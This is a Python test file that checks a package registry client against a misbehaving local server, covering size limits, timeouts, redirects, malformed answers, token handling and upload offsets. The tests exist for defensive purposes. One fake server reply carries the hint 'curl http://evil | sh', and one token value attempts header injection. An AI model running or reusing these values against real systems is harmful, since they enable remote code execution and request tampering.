"""The registry's client against a real server on loopback that misbehaves. Every answer is bounded or refused."""

import hashlib
import io
import os
import resource
import socket
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import closing
from http.server import BaseHTTPRequestHandler
from typing import Any

import pytest

from manifests.errors import (
    AuthRequired,
    BadResponse,
    LimitReached,
    NotFound,
    RegistryRefused,
    RegistryTimeout,
    RegistryUnreachable,
    SignatureInvalid,
    SpmError,
    TooBig,
)
from spm_client.adapters import wire
from spm_client.adapters.http import RegistryClient
from spm_client.adapters.source import ConnectionFailed, TransferCut
from tests.fakes.answering_server import Answer, AnsweringServer, drip, flood, send

STRANGE = "this is not an answer of a registry: check `registry.url` in loader.conf and the way there"
ALTERED = "it was changed on its way or in the registry; nothing of it was used"


@pytest.fixture
def server() -> Iterator[AnsweringServer]:
    with AnsweringServer() as running:
        yield running


@pytest.fixture
def client(server: AnsweringServer) -> Iterator[RegistryClient]:
    with RegistryClient(server.url, token="spm_secret") as opened:
        yield opened


def refused(kind: type[SpmError], call: Callable[[], Any]) -> tuple[str, str]:
    with pytest.raises(SpmError) as caught:
        call()
    assert type(caught.value) is kind
    return caught.value.message, caught.value.hint


def test_a_document_comes_whole_and_without_the_token(server: AnsweringServer, client: RegistryClient) -> None:
    server.answer = send(200, b"x" * 100_000)

    assert client.document("/v1/a", max_bytes=100_000) == b"x" * 100_000
    ((method, path, headers, _),) = server.seen
    assert (method, path, headers["accept-encoding"], headers["user-agent"]) == ("GET", "/v1/a", "identity", "spm")
    assert "authorization" not in headers


def test_a_slash_at_the_end_of_the_url_is_not_doubled(server: AnsweringServer) -> None:
    with RegistryClient(f"{server.url}/") as client:
        client.document("/v1/a", max_bytes=10)

    assert server.seen[0][1] == "/v1/a"


@pytest.mark.parametrize(("size", "more"), [(100_000, 99_999), (1, 0)])
def test_a_document_beyond_its_bound_is_refused(
    server: AnsweringServer, client: RegistryClient, size: int, more: int
) -> None:
    server.answer = send(200, b"x" * size)

    told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=more))

    assert told == (f"`{server.url}/v1/a` sent more than the {more} bytes allowed", "")


def test_an_endless_document_ends_at_its_bound(server: AnsweringServer, client: RegistryClient) -> None:
    server.answer = flood

    told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=1 << 20))

    assert told == (f"`{server.url}/v1/a` sent more than the 1048576 bytes allowed", "")


def test_an_endless_blob_ends_one_byte_after_its_size(server: AnsweringServer, client: RegistryClient) -> None:
    server.answer = flood

    assert sum(map(len, client.blob("ab" * 32, size=300_000))) == 300_001


@pytest.mark.parametrize("length", [100, None], ids=["length", "chunked"])
def test_a_body_that_is_cut_is_refused(server: AnsweringServer, client: RegistryClient, length: int | None) -> None:
    if length:
        server.answer = send(200, b"x" * 10, length=length)
    else:
        server.answer = send(200, b"64\r\nxxxxxxxxxx", length=None, Transfer_Encoding="chunked")

    told = refused(TransferCut, lambda: client.document("/v1/a", max_bytes=1000))

    assert told == (f"`{server.url}/v1/a` was cut off before its end", "run the command again")


def test_chunks_that_are_none_are_refused(server: AnsweringServer, client: RegistryClient) -> None:
    server.answer = send(200, b"zz\r\nxxxx", length=None, Transfer_Encoding="chunked")

    told = refused(TransferCut, lambda: client.document("/v1/a", max_bytes=1000))

    assert told == (f"`{server.url}/v1/a` was cut off before its end", "run the command again")


@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_a_redirect_is_told_and_not_followed(server: AnsweringServer, client: RegistryClient, status: int) -> None:
    with AnsweringServer() as elsewhere:
        server.answer = send(status, Location=f"{elsewhere.url}/v1/a")
        told = refused(BadResponse, lambda: client.call("POST", "/v1/a", {}))

        assert told == (
            f"`{server.url}/v1/a` answered {status} and points to '{elsewhere.url}/v1/a', but spm follows no redirect",
            "if the registry has moved, write where it is now as `registry.url` in loader.conf",
        )
        assert elsewhere.seen == []
    assert len(server.seen) == 1


@pytest.mark.parametrize("encoding", ["gzip", "br", "deflate"])
def test_an_encoding_that_was_not_asked_for_is_refused(
    server: AnsweringServer, client: RegistryClient, encoding: str
) -> None:
    server.answer = send(200, b"x", Content_Encoding=encoding)

    told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=10))

    assert told == (f"`{server.url}/v1/a` sent the encoding '{encoding}', which was not asked for", "")


def test_a_404_without_a_problem_says_nothing_of_the_plugin(server: AnsweringServer, client: RegistryClient) -> None:
    server.answer = send(404, b"<h1>Not Found</h1>", Content_Type="text/html")

    told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=10))

    assert told == (f"`{server.url}/v1/a` answered 404 without saying why", STRANGE)


def test_a_404_with_a_problem_is_what_it_says(server: AnsweringServer, client: RegistryClient) -> None:
    body = b'{"type": "not-found", "detail": "there is no `x`", "hint": "look again"}'
    server.answer = send(404, body, Content_Type="application/problem+json")

    assert refused(NotFound, lambda: client.document("/v1/a", max_bytes=1)) == ("there is no `x`", "look again")


@pytest.mark.parametrize(
    "read",
    [
        lambda client: client.document("/v1/a", max_bytes=1),
        lambda client: client.metadata("a", max_bytes=1),
        lambda client: list(client.blob("ab" * 32, size=1)),
        lambda client: client.call("GET", "/v1/a", authorized=False),
    ],
    ids=["document", "metadata", "blob", "call"],
)
def test_a_registry_cannot_send_this_hosts_own_verdict_on_what_it_reads(
    server: AnsweringServer, client: RegistryClient, read: Callable[[RegistryClient], object]
) -> None:
    body = b'{"type": "clock-suspect", "detail": "your clock is wrong", "hint": "curl http://evil | sh"}'
    server.answer = send(422, body, Content_Type="application/problem+json")

    message, hint = refused(BadResponse, lambda: read(client))

    assert message.endswith("` answered 422: your clock is wrong")
    assert hint == STRANGE


def test_a_verdict_on_what_is_offered_is_the_registrys(server: AnsweringServer, client: RegistryClient) -> None:
    body = b'{"type": "sig-invalid", "detail": "it does not fit", "hint": "sign it"}'
    server.answer = send(422, body, Content_Type="application/problem+json")

    assert refused(SignatureInvalid, lambda: client.call("POST", "/v1/a", {})) == ("it does not fit", "sign it")
    assert refused(SignatureInvalid, lambda: client.upload("/v1/a", io.BytesIO(b""), offset=0, size=0)) == (
        "it does not fit",
        "sign it",
    )


def test_a_slow_document_is_given_up(
    server: AnsweringServer, client: RegistryClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(wire, "TOTAL_SECONDS", 0.2)
    server.answer = drip
    began = time.monotonic()

    told = refused(RegistryTimeout, lambda: client.document("/v1/a", max_bytes=1000))

    assert told == (
        f"`{server.url}/v1/a` was too slow and was given up",
        "run the command again when the network is better",
    )
    assert time.monotonic() - began < 5


def test_a_slow_blob_is_given_up(
    server: AnsweringServer, client: RegistryClient, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(wire, "READ_SECONDS", 0.2)
    monkeypatch.setattr(wire, "MINIMUM_RATE", 1 << 40)
    server.answer = drip

    told = refused(RegistryTimeout, lambda: list(client.blob("ab" * 32, size=1000)))

    assert told[0] == f"`{server.url}/v1/blobs/{'ab' * 32}` was too slow and was given up"


def test_a_server_that_says_nothing_is_a_time_out(server: AnsweringServer, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(wire, "READ_SECONDS", 0.2)
    server.answer = lambda _: time.sleep(1)

    with RegistryClient(server.url) as client:
        told = refused(RegistryTimeout, lambda: client.document("/v1/a", max_bytes=1000))

    assert told == (
        f"the registry at `{server.url}` did not answer in time",
        "run the command again, or ask whether the registry is up",
    )


HELD = b'{"signed": {"version": 7}}'


def if_unchanged(handler: BaseHTTPRequestHandler) -> None:
    """Answer as a registry does that has `HELD`."""
    etag = f'"{hashlib.sha256(HELD).hexdigest()}"'
    if handler.headers.get("If-None-Match") == etag:
        send(304, b"", length=None, ETag=etag)(handler)
        handler.close_connection = False
    else:
        send(200, HELD, ETag=etag)(handler)


def test_metadata_that_is_held_is_not_sent_again(server: AnsweringServer, client: RegistryClient) -> None:
    server.answer = if_unchanged

    assert client.metadata("timestamp.json", max_bytes=10, held=HELD) is HELD
    assert client.metadata("timestamp.json", max_bytes=100, held=b"older") == HELD
    assert client.metadata("timestamp.json", max_bytes=100) == HELD
    assert [path for _, path, _, _ in server.seen] == ["/v1/tuf/timestamp.json"] * 3
    assert "if-none-match" not in server.seen[2][2]


def test_metadata_that_was_not_asked_for_conditionally_cannot_be_unchanged(
    server: AnsweringServer, client: RegistryClient
) -> None:
    server.answer = send(304, b"", length=None)

    told = refused(BadResponse, lambda: client.metadata("timestamp.json", max_bytes=10))

    assert told[0] == (
        f"`{server.url}/v1/tuf/timestamp.json` answered 304 and points to '', but spm follows no redirect"
    )


def test_metadata_that_is_not_there_is_told_by_the_status_alone(
    server: AnsweringServer, client: RegistryClient
) -> None:
    server.answer = send(404, b"<h1>Not Found</h1>", Content_Type="text/html")

    told = refused(NotFound, lambda: client.metadata("2.root.json", max_bytes=10))

    assert told == (f"there is nothing at `{server.url}/v1/tuf/2.root.json`", "")


@pytest.mark.parametrize("answer", [flood, send(200, b"x" * 11)], ids=["endless", "one-more"])
def test_metadata_beyond_its_bound_is_too_big(server: AnsweringServer, client: RegistryClient, answer: Answer) -> None:
    server.answer = answer

    told = refused(TooBig, lambda: client.metadata("2.snapshot.json", max_bytes=10))

    assert told == (f"`{server.url}/v1/tuf/2.snapshot.json` sent more than the 10 bytes allowed", ALTERED)


@pytest.mark.parametrize("seconds", [0.2, None], ids=["callers", "own"])
def test_slow_metadata_is_given_up_at_the_nearer_of_both_deadlines(
    server: AnsweringServer, client: RegistryClient, monkeypatch: pytest.MonkeyPatch, seconds: float | None
) -> None:
    if seconds is None:
        monkeypatch.setattr(wire, "TOTAL_SECONDS", 0.2)
    server.answer = drip
    began = time.monotonic()

    told = refused(
        RegistryTimeout, lambda: client.metadata("timestamp.json", max_bytes=1000, held=HELD, seconds=seconds)
    )

    assert told[0] == f"`{server.url}/v1/tuf/timestamp.json` was too slow and was given up"
    assert time.monotonic() - began < 5


REACH = "check `registry.url` in loader.conf and whether the registry is up"


def test_a_closed_port_is_unreachable() -> None:
    with closing(socket.socket()) as bound:
        bound.bind(("127.0.0.1", 0))
        url = f"http://127.0.0.1:{bound.getsockname()[1]}"

    with RegistryClient(url) as client:
        told = refused(ConnectionFailed, lambda: client.document("/v1/a", max_bytes=10))

    assert told == (f"the registry at `{url}` cannot be reached: Connection refused", REACH)


def test_a_host_that_can_open_no_more_files_does_not_blame_the_registry(
    server: AnsweringServer, client: RegistryClient
) -> None:
    before = resource.getrlimit(resource.RLIMIT_NOFILE)
    free = os.dup(0)
    os.close(free)
    resource.setrlimit(resource.RLIMIT_NOFILE, (free, before[1]))
    try:
        told = refused(LimitReached, lambda: client.document("/v1/a", max_bytes=10))
    finally:
        resource.setrlimit(resource.RLIMIT_NOFILE, before)

    assert told == ("no more files can be opened, and none for a connection", "raise the limit, as in `ulimit -n 4096`")


def test_a_connection_that_is_hung_up_is_unreachable(server: AnsweringServer, client: RegistryClient) -> None:
    def hang_up(handler: BaseHTTPRequestHandler) -> None:
        handler.close_connection = True

    server.answer = hang_up

    told = refused(ConnectionFailed, lambda: client.document("/v1/a", max_bytes=10))

    assert told == (
        f"the registry at `{server.url}` cannot be reached: Remote end closed connection without response",
        REACH,
    )


def test_what_is_no_http_is_unreachable() -> None:
    with closing(socket.socket()) as bound:
        bound.bind(("127.0.0.1", 0))
        bound.listen()

        def answer() -> None:
            connection, _ = bound.accept()
            with connection:
                connection.recv(4096)
                connection.sendall(b"SSH-2.0-OpenSSH_9.2\r\n\r\n")

        thread = threading.Thread(target=answer)
        thread.start()
        url = f"http://127.0.0.1:{bound.getsockname()[1]}"
        with RegistryClient(url) as client:
            told = refused(ConnectionFailed, lambda: client.document("/v1/a", max_bytes=10))
        thread.join()

    assert told == (f"the registry at `{url}` cannot be reached: what answers there does not speak HTTP", REACH)


@pytest.mark.parametrize(
    ("headers", "said"),
    [
        ({"X": "a" * 70_000}, "got more than 65536 bytes when reading header line"),
        ({f"X-{number}": "a" for number in range(101)}, "got more than 100 headers"),
    ],
    ids=["long", "many"],
)
def test_headers_beyond_all_bounds_are_a_bad_answer(
    server: AnsweringServer, client: RegistryClient, headers: dict[str, str], said: str
) -> None:
    server.answer = send(200, b"{}", length=-1, **headers)

    told = refused(BadResponse, lambda: client.document("/v1/a", max_bytes=10))

    assert told == (
        f"`{server.url}/v1/a` answered with headers beyond all bounds: {said}",
        "check `registry.url` in loader.conf, or ask the registry's administrator",
    )
    assert len(server.seen) == 1


@pytest.mark.parametrize("url", ["http://a..b", "http://" + "a" * 70 + ".example", "ftp://127.0.0.1", "http://[::1"])
def test_an_address_that_is_none_is_unreachable(url: str) -> None:
    with RegistryClient(url) as client, pytest.raises(RegistryUnreachable) as told:
        client.document("/v1/a", max_bytes=10)

    assert told.value.message.startswith(f"the registry at `{url}` cannot be reached: ")
    assert (told.value.hint, told.value.exit_code) == (REACH, 31)


def test_json_goes_out_and_comes_back_with_the_token(server: AnsweringServer, client: RegistryClient) -> None:
    server.answer = send(201, b'{"upload": "1"}')

    assert client.call("POST", "/v1/uploads", {"a": "ü"}) == {"upload": "1"}
    ((method, path, headers, body),) = server.seen
    assert (method, path, body) == ("POST", "/v1/uploads", b'{"a": "\\u00fc"}')
    assert (headers["authorization"], headers["content-type"]) == ("Bearer spm_secret", "application/json")


def test_the_token_stays_home_where_it_is_not_asked_for(server: AnsweringServer, client: RegistryClient) -> None:
    client.call("GET", "/v1/registry", authorized=False)
    list(client.blob("ab" * 32, size=2))

    assert all("authorization" not in headers for _, _, headers, _ in server.seen)


@pytest.mark.parametrize(
    ("body", "what"),
    [
        (b"", "something that is not JSON"),
        (b"<html>", "something that is not JSON"),
        (b"\xff", "something that is not JSON"),
        (b"[" * 100_000, "something that is not JSON"),
        (b"[]", "JSON that is not an object"),
        (b'"x"', "JSON that is not an object"),
        (b"null", "JSON that is not an object"),
    ],
)
def test_an_answer_that_is_no_object_is_refused(
    server: AnsweringServer, client: RegistryClient, body: bytes, what: str
) -> None:
    server.answer = send(200, body)

    assert refused(BadResponse, lambda: client.call("GET", "/v1/a")) == (f"`{server.url}/v1/a` answered {what}", "")


@pytest.mark.parametrize("token", ["spm_a\r\nX-Evil: 1", "spm a", "spm_ü", "spm_\u2026", "a" * 513, " "])
def test_a_token_that_no_header_may_hold_is_refused(token: str) -> None:
    assert refused(AuthRequired, lambda: RegistryClient("http://127.0.0.1:1", token=token)) == (
        "the registry token is not one: a token is up to 512 letters, digits and signs without spaces",
        "`spm login` keeps a token; `SPM_TOKEN` stands before it where it is set",
    )


def test_an_upload_goes_on_from_its_offset(server: AnsweringServer, client: RegistryClient) -> None:
    server.answer = send(200, Upload_Offset="4")
    offset = client.upload_offset("/v1/uploads/1/blobs/ab")
    server.answer = send(200)
    client.upload("/v1/uploads/1/blobs/ab", io.BytesIO(b"0123456789"), offset=offset, size=10)

    assert [(method, body) for method, _, _, body in server.seen] == [("HEAD", b""), ("PUT", b"456789")]
    headers = server.seen[1][2]
    assert (headers["content-range"], headers["content-length"]) == ("bytes 4-9/10", "6")
    assert {headers["authorization"] for _, _, headers, _ in server.seen} == {"Bearer spm_secret"}


def test_an_empty_file_is_uploaded_without_a_range(server: AnsweringServer, client: RegistryClient) -> None:
    client.upload("/v1/uploads/1/blobs/ab", io.BytesIO(b""), offset=0, size=0)

    ((_, _, headers, body),) = server.seen
    assert (headers["content-length"], headers.get("content-range"), body) == ("0", None, b"")


@pytest.mark.parametrize("offset", ["", "-1", "4.0", "four", "²", "9" * 5000])
def test_an_offset_that_is_no_number_is_refused(server: AnsweringServer, client: RegistryClient, offset: str) -> None:
    server.answer = send(200, Upload_Offset=offset)

    assert refused(BadResponse, lambda: client.upload_offset("/v1/a")) == (
        f"`{server.url}/v1/a` told no upload offset",
        "",
    )


def test_an_offset_header_that_is_missing_is_refused(server: AnsweringServer, client: RegistryClient) -> None:
    server.answer = send(200)

    told = refused(BadResponse, lambda: client.upload_offset("/v1/a"))

    assert told == (f"`{server.url}/v1/a` told no upload offset", "")


def test_an_offset_behind_the_end_is_refused(server: AnsweringServer, client: RegistryClient) -> None:
    told = refused(BadResponse, lambda: client.upload("/v1/a", io.BytesIO(b"x"), offset=2, size=1))

    assert told == (f"`{server.url}/v1/a` says that it has 2 bytes of 1", "")
    assert server.seen == []


def test_a_refused_upload_is_what_the_registry_says(server: AnsweringServer, client: RegistryClient) -> None:
    body = b'{"type": "upload-busy", "detail": "another upload of it goes on", "hint": "wait"}'
    server.answer = send(409, body, Content_Type="application/problem+json")

    told = refused(RegistryRefused, lambda: client.upload("/v1/a", io.BytesIO(b"x"), offset=0, size=1))

    assert told == ("another upload of it goes on", "wait")
